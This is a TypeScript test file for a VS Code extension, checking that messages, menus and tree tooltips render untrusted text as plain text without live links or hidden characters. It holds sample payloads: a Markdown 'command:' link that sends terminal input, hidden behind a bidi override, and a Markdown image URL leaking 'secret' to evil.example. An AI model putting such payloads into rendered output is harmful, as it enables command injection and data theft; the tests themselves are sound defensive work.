import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { marksIn } from '../../../src/editor/review/lenses/hiddenMarks.js';
import { commentOf } from '../../../src/editor/shown/comment.js';
import { showError, showInformation, showWarning } from '../../../src/editor/shown/messages.js';
import { askText, pickOne } from '../../../src/editor/shown/questions.js';
import { rowItem, withTooltip } from '../../../src/editor/tree/rowItem.js';
import { rowsBeneath } from '../results/rowsBeneath.js';
import { skillNode, type KnownSkill } from '../../../src/editor/tree/skillNode.js';
import type { TreeNode } from '../../../src/editor/tree/treeNode.js';
import { aKnownSkill } from '../../builders/aKnownSkill.js';
import { hostileTexts } from '../../builders/hostileTexts.js';
import { ChatServer, refusal } from '../../fakes/ChatServer.js';
import { answering } from '../answering.js';
import { aSkill, chooseSimulated } from '../tasks/taskWindow.js';

const attack =
  '[Click here to repair it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D)\u202e';
const names = ['Ada', 'Bo', 'Cem', 'Dora', 'Emil', 'Fay', 'Gus', 'Hana'];
/** As VS Code looks for links in what a message says. */
const link = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)/i;
const icon = /\$\([\w-]+(?:~\w+)?\)/;
const unseen = /[^\P{Cc}\n\t]|\p{Cs}|[\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\u{e0000}-\u{e0fff}]/u;

describe('text of others in the window', () => {
  before(chooseSimulated);
  after(chooseSimulated);

  it('makes no link in the message about a task’s environment', async () => {
    const expectations = ['The answer contains “harbour”.'];
    const evals = { evals: names.map((name) => ({ id: name, prompt: `Greet ${name} at work`, expectations })) };
    const tasks = Object.fromEntries(names.map((name) => [name, { environment: attack }]));
    const own = { format: 'whetstone.tasks', version: 1, tasks };
    const skillPath = aSkill('hostile-environment', { 'evals/evals.json': evals, 'evals/whetstone.json': own });
    const { errors } = await answering({ buttons: ['Optimize'] }, () =>
      vscode.commands.executeCommand('whetstone.optimize', skillPath),
    );
    isHarmless(errors, /Click here to repair it\] \(command:/);
  });

  it('makes no link in the message about what a server refused', async () => {
    const server = (await ChatServer.start()).answers(refusal(401, { message: attack }));
    try {
      const settings = vscode.workspace.getConfiguration('whetstone');
      await settings.update('model.target', `${server.baseUrl}#m`, vscode.ConfigurationTarget.Global);
      const { errors } = await answering({}, () => vscode.commands.executeCommand('whetstone.checkConnection'));
      isHarmless(errors, /Click here to repair it\] \(command:/);
    } finally {
      await server.stop();
    }
  });

  it('makes no link and no icon in any message, question or menu', async () => {
    for (const [name, text] of hostileTexts) {
      const { messages, warnings, errors, inputs } = await answering(
        { picks: ['none'], inputs: [undefined] },
        async () => {
          await showInformation(text);
          await showWarning(text);
          await showError(text);
          await askText({ title: text, prompt: text });
          assert.equal(await pickOne([{ label: text }], { title: text }), undefined, name);
        },
      );
      for (const said of [...messages, ...warnings, ...errors, ...inputs]) {
        assert.doesNotMatch(said, link, name);
        assert.doesNotMatch(said, unseen, name);
      }
    }
  });

  it('is a plain text in every row of the tree and its tooltip, never Markdown', async () => {
    for (const [name, text] of hostileTexts) {
      const rows = await allRows(skillNode(withText(text), rowsBeneath, () => Promise.resolve(withText(text))));
      for (const node of rows) {
        const row = node.row();
        const item = withTooltip(rowItem(node.id, row), row);
        assert.equal(typeof item.tooltip, 'string', name);
        assert.equal(typeof item.label, 'string', name);
        const shown = [item.label, item.description, item.tooltip, item.accessibilityInformation?.label].map(String);
        for (const each of shown) assert.doesNotMatch(each, unseen, name);
        for (const each of shown.slice(0, 2)) assert.doesNotMatch(each, icon, name);
      }
    }
  });

  it('shows the prompt of a task and the reason of an edit in their tooltips as they are written', async () => {
    const known = withText('![x](https://evil.example/a.png?d=secret) \u200b');
    const rows = await allRows(skillNode(known, rowsBeneath, () => Promise.resolve(known)));
    const tooltips = rows.map((node) => withTooltip(rowItem(node.id, node.row()), node.row()).tooltip);
    const same = tooltips.filter((each) => each === '![x](https://evil.example/a.png?d=secret) ‹U+200B›');
    assert.ok(same.length >= 2, 'an edit and a task say it');
  });

  it('runs one command of ours in a comment, and takes no HTML', () => {
    const { body } = commentOf('words', ['whetstone.showAnswers']);
    assert.ok(body instanceof vscode.MarkdownString);
    assert.deepEqual(body.isTrusted, { enabledCommands: ['whetstone.showAnswers'] });
    assert.notEqual(body.supportHtml, true);
  });

  it('is marked in a proposal where nobody would see it', async () => {
    const content = 'Use ISO\u200b dates.\n\u{e0041}End 👩‍👩‍👧‍👦\n';
    const document = await vscode.workspace.openTextDocument({ language: 'whetstone-proposal', content });
    const marks = marksIn(document).map(({ range, renderOptions }) => [
      document.getText(range),
      range.start.line,
      renderOptions?.before?.contentText,
    ]);
    assert.deepEqual(marks, [
      ['\u200b', 0, '‹U+200B›'],
      ['\u{e0041}', 1, '‹U+E0041›'],
    ]);
  });
});

function isHarmless(said: readonly string[], words: RegExp): void {
  assert.match(said.join('\n'), words);
  for (const each of said) {
    assert.doesNotMatch(each, link);
    assert.doesNotMatch(each, unseen);
  }
}

/** A skill whose every word is that text. */
function withText(text: string): KnownSkill {
  const known = aKnownSkill({});
  const { overview } = known;
  assert.ok(overview?.pending !== undefined && overview.tasks !== undefined);
  const { pending, tasks } = overview;
  const document = (each: (typeof pending.proposal.documents)[number]): typeof each => ({
    ...each,
    edits: each.edits.map((edit) => ({ ...edit, edit: { ...edit.edit, rationale: text } })),
  });
  return {
    ...known,
    skill: { ...known.skill, name: text },
    overview: {
      ...overview,
      pending: { ...pending, proposal: { ...pending.proposal, documents: pending.proposal.documents.map(document) } },
      tasks: { ...tasks, training: tasks.training.map((task) => ({ ...task, prompt: text })) },
      rejected: [{ text, reason: text }],
    },
  };
}

async function allRows(node: TreeNode): Promise<readonly TreeNode[]> {
  const below = await Promise.all((await node.children()).map(allRows));
  return [node, ...below.flat()];
}
